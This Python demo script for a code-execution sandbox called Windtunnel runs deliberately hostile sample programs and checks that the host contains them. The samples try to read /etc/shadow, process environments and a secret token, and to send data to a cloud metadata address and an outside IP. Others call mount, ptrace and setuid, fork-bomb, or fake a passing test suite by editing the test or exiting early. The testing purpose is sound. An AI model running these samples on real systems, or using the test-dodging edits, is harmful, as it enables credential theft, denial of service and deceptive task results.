"""A tour in a few seconds: programs nobody should trust, what they tried, and what the host saw of it.

Each step is judged from outside: a file and a listener of this script's own, the reason on the result, the record
of refused calls. A step that does not end as it must makes the script exit with 1.
"""

from __future__ import annotations

import os
import socket
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

from windtunnel import ExecutionResult, FileChange, LanguageMissing, Limits, Reason, Tunnel, WindtunnelError

MIB = 1024**2
SHORT = Limits(wall_seconds=10.0)

HELLO = """
import os, socket
print(f"hello from process {os.getpid()} of {len([p for p in os.listdir('/proc') if p.isdigit()])} on "
      f"'{socket.gethostname()}', user {os.getuid()}")
"""
THIEF = """
import os
for what, take in (
    ("your file", lambda: open({canary!r}).read()),
    ("your environment", lambda: os.environ["DEMO_TOKEN"]),
    ("the password file", lambda: open("/etc/shadow").read()),
    ("your processes", lambda: open("/proc/{pid}/environ").read()),
):
    try:
        print(what + ": STOLEN " + take()[:40])
    except (OSError, KeyError) as error:
        print(what + ": " + (getattr(error, "strerror", None) or "not there"))
"""
CALLER = """
import socket
for target in (("127.0.0.1", {port}), ("169.254.169.254", 80), ("203.0.113.9", 443)):
    try:
        socket.create_connection(target, timeout=1).send(b"data")
        print(f"{{target[0]}}: SENT")
    except OSError as error:
        print(f"{{target[0]}}: {{error.strerror}}")
"""
CLIMBER = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name, act in (
    ("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)),
    ("unshare", lambda: libc.unshare(0x10000000)),
    ("ptrace", lambda: libc.ptrace(16, 1, 0, 0)),
    ("setuid", lambda: libc.setuid(0)),
):
    print(name + ": " + ("DONE" if act() == 0 else os.strerror(ctypes.get_errno())))
"""
HOG = "hoard = []\nwhile True: hoard.append(bytearray(2**20))\n"
SLEEPER = "import time\nprint('I will never end', flush=True)\nwhile True: time.sleep(1)\n"
BOMB = "import os\nwhile True: os.fork()\n"
COMPILED = '#include <stdio.h>\nint main(void) { puts("hello from machine code"); return 0; }\n'

PROJECT = {
    "calc.py": "def add(a, b):\n    return a - b\n\n\ndef double(a):\n    return 2 * a\n",
    "test_calc.py": """\
import unittest

import calc


class CalcTest(unittest.TestCase):
    def test_add(self):
        self.assertEqual(calc.add(2, 3), 5)

    def test_double(self):
        self.assertEqual(calc.double(4), 8)
""",
}
CHANGES = {
    "repairs add": ("calc.py", "a - b", "a + b", True),
    "breaks double": ("calc.py", "2 * a", "3 * a", False),
    "edits the test instead": ("test_calc.py", "calc.add(2, 3), 5", "calc.add(2, 3), -1", False),
    "leaves before the tests run": ("calc.py", "def add", "import os\nos._exit(0)\n\n\ndef add", False),
}
"""(file, old, new, whether the verdict must be good)."""



class Tour:
    """Prints each step with its judgement, and remembers whether all went as it must."""

    def __init__(self, tunnel: Tunnel) -> None:
        self.tunnel = tunnel
        self.good = True
        self.count = 0
        self.last: ExecutionResult | None = None

    def step(self, title: str, code: str, *, as_it_must: Callable[[ExecutionResult], bool], language: str = "python",
             limits: Limits = SHORT) -> None:
        self.count += 1
        try:
            result = self.tunnel.run(code, language, limits=limits)
        except LanguageMissing as missing:
            print(f"{self.count}. {title}\n     not run here: {missing}\n")
            return
        good = as_it_must(result)
        self.good = self.good and good
        self.last = result
        print(f"{self.count}. {paint(title, '1')}")
        for line in (result.stdout.splitlines() or ["(it said nothing)"])[:6]:
            print(f"     {line}")
        for line in seen(result):
            print(f"     {paint('seen: ' + line, '33')}")
        verdict = paint("as it must", "32") if good else paint("NOT AS IT MUST", "31")
        print(f"   {verdict}: {result.reason}, exit code {result.exit_code}, {took(result)}\n")


def took(result: ExecutionResult) -> str:
    waited = ", from a sandbox that was waiting" if result.warm else ""
    return f"{result.execution_time * 1000:.1f} ms{waited}"


def seen(result: ExecutionResult) -> list[str]:
    """What the supervisor recorded beside the program's own words."""
    lines = [f"{tried.target} {tried.outcome}, {tried.rule}" for tried in result.effects.network]
    if result.effects.blocked:
        lines.append("refused calls: " + ", ".join(f"{call.name} {call.count}x" for call in result.effects.blocked))
    if result.reason is Reason.OUT_OF_MEMORY and result.usage.memory_peak_bytes:
        lines.append(f"{result.usage.memory_peak_bytes // MIB} MiB of memory at the peak")
    if result.effects.processes_left:
        lines.append(f"at least {len(result.effects.processes_left)} processes left over, ended with it")
    return lines


def paint(text: str, colour: str) -> str:
    return f"\x1b[{colour}m{text}\x1b[0m" if sys.stdout.isatty() and "NO_COLOR" not in os.environ else text


def attacks(tour: Tour, folder: str) -> None:
    """The steps whose judges look at this machine."""
    canary = Path(folder) / "canary"
    canary.write_text(os.environ["DEMO_TOKEN"])
    tour.step("It looks for your secrets", THIEF.format(canary=str(canary), pid=os.getpid()),
              as_it_must=lambda result: result.success and os.environ["DEMO_TOKEN"] not in result.stdout)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0)
        tour.step("It calls home, and your loopback", CALLER.format(port=listener.getsockname()[1]),
                  as_it_must=lambda result: result.success and not called(listener))
    tour.step("It asks the kernel for power", CLIMBER,
              as_it_must=lambda result: result.success and "DONE" not in result.stdout)


def called(listener: socket.socket) -> bool:
    """Whether anybody reached this script's own listener."""
    try:
        listener.accept()
    except BlockingIOError:
        return False
    return True


def trials(tunnel: Tunnel, project: Path) -> bool:
    """Changes to a small project, each tried before it is applied; whether each got the verdict it deserves."""
    project.mkdir()
    for name, text in PROJECT.items():
        (project / name).write_text(text)
    print(paint("Changes to a project, tried before they are applied", "1"))
    good = True
    for name, (path, old, new, deserved) in CHANGES.items():
        change = FileChange(path, "modify", PROJECT[path].replace(old, new))
        result = tunnel.try_change(project, [change])
        good &= result.success is deserved
        words = "; ".join(result.reasons) or "nothing broken"
        print(f"     {name:28} {paint(f'{result.verdict:9}', '32' if result.success else '31')} {words[:100]}")
    untouched = {path.name: path.read_text() for path in project.iterdir()} == PROJECT
    print(f"     {'the project on disk':28} {'as it was' if untouched else 'CHANGED'}\n")
    return good and untouched


def tour(tunnel: Tunnel, folder: str) -> bool:
    made = Tour(tunnel)
    made.step("An honest program", HELLO, as_it_must=lambda result: result.success)
    attacks(made, folder)
    made.step("It eats memory (64 MiB allowed)", HOG, limits=Limits(memory_bytes=64 * MIB, wall_seconds=10),
              as_it_must=lambda result: result.reason is Reason.OUT_OF_MEMORY)
    made.step("It never ends (half a second allowed)", SLEEPER, limits=Limits(wall_seconds=0.5),
              as_it_must=lambda result: result.timeout and result.stdout == "I will never end\n")
    made.step("It multiplies (32 processes allowed)", BOMB, limits=Limits(processes=32, wall_seconds=0.5),
              as_it_must=lambda result: not result.success and (result.usage.processes_peak or 0) <= 34)
    made.step("A compiled language: C", COMPILED, language="c", as_it_must=lambda result: result.success)
    made.good &= trials(tunnel, Path(folder) / "shop")
    if made.last is not None:
        print(paint(f"What held, at the {made.last.level} level:", "1"))
        for name, how in made.last.enforced.items():
            print(f"     {name:20} {how}")
    return made.good


def main() -> int:
    begun = time.monotonic()
    os.environ["DEMO_TOKEN"] = os.urandom(8).hex()
    print("Windtunnel runs code that nobody trusts yet. Here is some.\n")
    try:
        with tempfile.TemporaryDirectory() as folder, Tunnel() as tunnel:
            tunnel.warm_up()
            good = tour(tunnel, folder)
    except WindtunnelError as failure:
        print(f"windtunnel: {failure}", file=sys.stderr)
        return 1
    verdict = "All went as it must" if good else "NOT all went as it must"
    print(f"\n{verdict}, in {time.monotonic() - begun:.1f} seconds.")
    print("More: windtunnel doctor, windtunnel doctor --self-check, windtunnel run --help, docs/index.md")
    return 0 if good else 1


if __name__ == "__main__":
    raise SystemExit(main())
